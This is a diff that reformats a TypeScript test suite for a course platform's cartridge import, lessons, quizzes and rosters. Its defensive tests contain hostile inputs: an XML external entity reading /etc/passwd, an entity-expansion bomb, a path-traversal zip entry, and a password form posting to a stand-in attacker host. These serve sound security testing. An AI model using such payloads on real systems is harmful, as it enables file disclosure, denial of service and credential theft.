@@ -7,9 +7,17 @@ import {
   onePage,
   renamed,
   resource,
-  zipOf
+  zipOf,
 } from '@azora/service-education/cartridges/cartridge-fixture.ts'
-import { appoint, clientFor, openAuthDatabase, type Person, request, signUp, systemUnderTest } from '../api.ts'
+import {
+  appoint,
+  clientFor,
+  openAuthDatabase,
+  type Person,
+  request,
+  signUp,
+  systemUnderTest,
+} from '../api.ts'
 import { complete, importCartridge, makeCourse, takeQuiz, uploadFile } from '../courses.ts'
 import { until } from '../system.ts'
 
@@ -43,7 +51,7 @@ const linkXml = `<webLink xmlns="http://www.imsglobal.org/xsd/imsccv1p3/imswl_v1
 
 const pixel = Buffer.from(
   'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
-  'base64'
+  'base64',
 )
 
 /** A page that shows an image, a link and a quiz: one of each kind that a cartridge brings. */
@@ -54,18 +62,21 @@ const riverCartridge = () =>
       items: item(
         'm1',
         'Sources',
-        item('i1', 'Springs', '', 'page') + item('i2', 'Atlas', '', 'link') + item('i3', 'River quiz', '', 'quiz')
+        item('i1', 'Springs', '', 'page') +
+          item('i2', 'Atlas', '', 'link') +
+          item('i3', 'River quiz', '', 'quiz'),
       ),
       resources:
         resource('page', 'pages/springs.html') +
         resource('link', 'link.xml', 'imswl_xmlv1p3') +
         resource('quiz', 'quiz/qti.xml', 'imsqti_xmlv1p2/imscc_xmlv1p3/assessment') +
-        resource('pic', 'images/spring.png')
+        resource('pic', 'images/spring.png'),
     }),
-    'pages/springs.html': '<html><body><h2>Springs</h2><p>See <img src="../images/spring.png" alt="A spring"></p></body></html>',
+    'pages/springs.html':
+      '<html><body><h2>Springs</h2><p>See <img src="../images/spring.png" alt="A spring"></p></body></html>',
     'images/spring.png': pixel,
     'link.xml': linkXml,
-    'quiz/qti.xml': quizXml
+    'quiz/qti.xml': quizXml,
   })
 
 test('A cartridge becomes a draft with its page, picture, link and quiz, and the report tells of each entry.', async () => {
@@ -85,8 +96,8 @@ test('A cartridge becomes a draft with its page, picture, link and quiz, and the
     [
       ['Springs', 'page'],
       ['Atlas', 'link'],
-      ['River quiz', 'quiz']
-    ]
+      ['River quiz', 'quiz'],
+    ],
   )
   assert.equal(lessons[1]?.linkUrl, 'https://atlas.example/rivers')
   const page = await instructor.api.education.getLesson({ lessonId: lessons[0]?.id ?? '' })
@@ -95,13 +106,15 @@ test('A cartridge becomes a draft with its page, picture, link and quiz, and the
   assert.deepEqual(Buffer.from(await picture.arrayBuffer()), pixel)
 
   const quizId = lessons[2]?.quizId ?? ''
-  const quiz = await until('The quiz has come', () => instructor.api.assessment.editQuiz({ quizId }).catch(() => null))
+  const quiz = await until('The quiz has come', () =>
+    instructor.api.assessment.editQuiz({ quizId }).catch(() => null),
+  )
   assert.deepEqual(
     quiz.questions[0]?.options.map(option => [option.content, option.correct]),
     [
       ['Table Mountain', false],
-      ['Vaal', true]
-    ]
+      ['Vaal', true],
+    ],
   )
 })
 
@@ -122,13 +135,16 @@ test('An imported course is edited, published, and taken by a learner to its cer
   const outline = await learner.api.education.getCoursePage({ course: courseId })
   assert.equal(outline.course.title, 'Rivers, revised')
   for (const lesson of outline.modules.flatMap(module => module.lessons)) {
-    if (lesson.kind !== 'quiz') await learner.api.education.saveProgress({ lessonId: lesson.id, completed: true })
+    if (lesson.kind !== 'quiz')
+      await learner.api.education.saveProgress({ lessonId: lesson.id, completed: true })
   }
   const right = quiz.questions[0]?.options.find(option => option.correct)?.id ?? ''
   const graded = await takeQuiz(learner, quizId, right)
   assert.equal(graded.result?.passed, true)
   await until('The certificate', async () => {
-    return (await learner.api.education.listCertificates()).items.find(one => one.courseTitle === 'Rivers, revised')
+    return (await learner.api.education.listCertificates()).items.find(
+      one => one.courseTitle === 'Rivers, revised',
+    )
   })
 })
 
@@ -142,7 +158,12 @@ function manyFiles(): Promise<Buffer> {
   return zipOf(onePage('<p>x</p>', files), stored)
 }
 const withManifest = (xml: string) => zipOf({ ...onePage('<p>x</p>'), 'imsmanifest.xml': xml })
-const traversing = async () => renamed(await zipOf({ ...onePage('<p>x</p>'), 'abcdefghijklm.txt': 'x' }), 'abcdefghijklm.txt', '../../../../p.txt')
+const traversing = async () =>
+  renamed(
+    await zipOf({ ...onePage('<p>x</p>'), 'abcdefghijklm.txt': 'x' }),
+    'abcdefghijklm.txt',
+    '../../../../p.txt',
+  )
 
 describe('A hostile or broken upload fails with its reason, imports nothing and harms nothing:', () => {
   const cases: Record<string, [code: string, make: () => Promise<Buffer> | Buffer]> = {
@@ -154,17 +175,18 @@ describe('A hostile or broken upload fails with its reason, imports nothing and 
     'malformed XML': ['malformed_xml', () => withManifest('<manifest><organizations></manifest>')],
     'an external entity': [
       'forbidden_doctype',
-      () => withManifest('<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><manifest>&x;</manifest>')
+      () => withManifest('<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><manifest>&x;</manifest>'),
     ],
     'an entity that grows without end': [
       'forbidden_doctype',
-      () => withManifest('<!DOCTYPE m [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><manifest>&b;</manifest>')
+      () => withManifest('<!DOCTYPE m [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><manifest>&b;</manifest>'),
     ],
-    'ten thousand files': ['too_many_entries', manyFiles]
+    'ten thousand files': ['too_many_entries', manyFiles],
   }
   for (const [what, [code, make]] of Object.entries(cases)) {
     test(`${what}.`, async () => {
-      const taught = async () => (await instructor.api.education.listTaughtCourses({ limit: 100 })).items.length
+      const taught = async () =>
+        (await instructor.api.education.listTaughtCourses({ limit: 100 })).items.length
       const before = await taught()
       const state = await importCartridge(url, instructor, await make())
       assert.equal(state.status, 'failed')
@@ -184,7 +206,9 @@ test('Scripts in an imported page do not reach a reader.', async () => {
     <form action="https://evil.example"><input name=password></form>`
   const { courseId } = await importCartridge(url, instructor, await zipOf(onePage(hostile)))
   const course = await instructor.api.education.editCourse({ courseId: courseId ?? '' })
-  const { content } = await instructor.api.education.getLesson({ lessonId: course.modules[0]?.lessons[0]?.id ?? '' })
+  const { content } = await instructor.api.education.getLesson({
+    lessonId: course.modules[0]?.lessons[0]?.id ?? '',
+  })
   assert.match(content, /Text/)
   // An embedded page is offered as a link instead.
   assert.doesNotMatch(content, /steal|script|onerror|onload|<iframe|<form|<input/i)
@@ -207,7 +231,10 @@ test('A course is made by hand of every kind of lesson.', async () => {
   const { education, assessment } = instructor.api
   const { id: courseId } = await education.createCourse({ title: 'By hand', category: 'Craft' })
   const moduleId = (await education.createModule({ courseId, title: 'One' })).modules[0]?.id ?? ''
-  const file = (await uploadFile(url, instructor, courseId, 'plan.pdf', '%PDF-1.4')).body as { id: string; mediaType: string }
+  const file = (await uploadFile(url, instructor, courseId, 'plan.pdf', '%PDF-1.4')).body as {
+    id: string
+    mediaType: string
+  }
   assert.equal(file.mediaType, 'application/pdf')
   const quiz = await assessment.createQuiz({ courseId, title: 'Check' })
   const add = (kind: 'page' | 'video' | 'file' | 'link' | 'quiz', extra: object) =>
@@ -220,7 +247,7 @@ test('A course is made by hand of every kind of lesson.', async () => {
   for (const [kind, missing] of [
     ['file', 'fileId'],
     ['link', 'linkUrl'],
-    ['quiz', 'quizId']
+    ['quiz', 'quizId'],
   ] as const) {
     const failure = await add(kind, {}).catch(thrown => thrown)
     assert.equal(codeOf(failure), 'invalid_input')
@@ -229,7 +256,7 @@ test('A course is made by hand of every kind of lesson.', async () => {
   const course = await education.editCourse({ courseId })
   assert.deepEqual(
     course.modules[0]?.lessons.map(lesson => lesson.kind),
-    ['page', 'video', 'file', 'link', 'quiz']
+    ['page', 'video', 'file', 'link', 'quiz'],
   )
   const page = await education.editLesson({ lessonId: course.modules[0]?.lessons[0]?.id ?? '' })
   assert.equal(page.content, '<p>Read <b>this</b></p>')
@@ -242,7 +269,7 @@ test('A file of another course cannot be put into a lesson.', async () => {
     moduleId: mine.moduleId,
     kind: 'file',
     title: 'Stolen',
-    fileId: other.fileId
+    fileId: other.fileId,
   })
   assert.equal(await refusal(stolen), 'invalid_input')
 })
@@ -256,16 +283,21 @@ test('Lessons move between modules, and an arrangement that is out of date is re
     courseId,
     modules: [
       { id: second, lessonIds: [quizLessonId, pageId] },
-      { id: moduleId, lessonIds: [fileLessonId] }
-    ]
+      { id: moduleId, lessonIds: [fileLessonId] },
+    ],
   })
-  const order = (modules: typeof arranged.modules) => modules.map(module => module.lessons.map(lesson => lesson.id))
+  const order = (modules: typeof arranged.modules) =>
+    modules.map(module => module.lessons.map(lesson => lesson.id))
   assert.deepEqual(order(arranged.modules), [[quizLessonId, pageId], [fileLessonId]])
   await education.deleteLesson({ lessonId: fileLessonId })
-  for (const lessonIds of [[quizLessonId, pageId, fileLessonId], [quizLessonId], [quizLessonId, quizLessonId]]) {
+  for (const lessonIds of [
+    [quizLessonId, pageId, fileLessonId],
+    [quizLessonId],
+    [quizLessonId, quizLessonId],
+  ]) {
     const modules = [
       { id: second, lessonIds },
-      { id: moduleId, lessonIds: [] }
+      { id: moduleId, lessonIds: [] },
     ]
     assert.equal(await refusal(education.arrangeCourse({ courseId, modules })), 'conflict')
   }
@@ -294,7 +326,10 @@ test('A course that nobody is in is deleted with its quizzes.', async () => {
   const { courseId, quizId } = await makeCourse(url, instructor)
   await instructor.api.education.deleteCourse({ courseId })
   assert.equal(await refusal(instructor.api.education.editCourse({ courseId })), 'not_found')
-  await until('The quiz is gone', async () => (await refusal(instructor.api.assessment.editQuiz({ quizId }))) === 'not_found')
+  await until(
+    'The quiz is gone',
+    async () => (await refusal(instructor.api.assessment.editQuiz({ quizId }))) === 'not_found',
+  )
 })
 
 test('The questions of an attempted quiz are kept as they were; its settings may still change.', async () => {
@@ -307,13 +342,20 @@ test('The questions of an attempted quiz are kept as they were; its settings may
   assert.equal(quiz.attempted, true)
   const saved = await saveQuiz({ ...quiz, quizId, title: 'Renamed', passingScore: 80 })
   assert.deepEqual([saved.title, saved.passingScore], ['Renamed', 80])
-  assert.equal(await refusal(saveQuiz({ ...quiz, quizId, questions: quiz.questions.slice(1) })), 'quiz_in_use')
+  assert.equal(
+    await refusal(saveQuiz({ ...quiz, quizId, questions: quiz.questions.slice(1) })),
+    'quiz_in_use',
+  )
   assert.equal(await refusal(deleteQuiz({ quizId })), 'quiz_in_use')
 })
 
 test('The roster shows how far each learner has come.', async () => {
   const course = await makeCourse(url, instructor)
-  const [finished, begun, idle] = await Promise.all([signUp(url, 'Finished'), signUp(url, 'Begun'), signUp(url, 'Idle')])
+  const [finished, begun, idle] = await Promise.all([
+    signUp(url, 'Finished'),
+    signUp(url, 'Begun'),
+    signUp(url, 'Idle'),
+  ])
   await complete(finished, course)
   for (const learner of [begun, idle]) await learner.api.education.enroll({ courseId: course.courseId })
   await begun.api.education.saveProgress({ lessonId: course.pageId, completed: true })
@@ -321,15 +363,20 @@ test('The roster shows how far each learner has come.', async () => {
     const { items } = await instructor.api.education.getRoster({ courseId: course.courseId })
     return items.every(entry => entry.name) && items
   })
-  const shown = roster.map(entry => [entry.name, entry.progressPercent, entry.lessonsDone, entry.bestQuizPercent])
+  const shown = roster.map(entry => [
+    entry.name,
+    entry.progressPercent,
+    entry.lessonsDone,
+    entry.bestQuizPercent,
+  ])
   assert.deepEqual(shown.sort(), [
     ['Begun', 33, 1, null],
     ['Finished', 100, 3, 100],
-    ['Idle', 0, 0, null]
+    ['Idle', 0, 0, null],
   ])
   const submissions = await instructor.api.assessment.listSubmissions({ quizId: course.quizId })
   assert.deepEqual(
     submissions.items.map(entry => [entry.userId, entry.passed]),
-    [[finished.userId, true]]
+    [[finished.userId, true]],
   )
 })
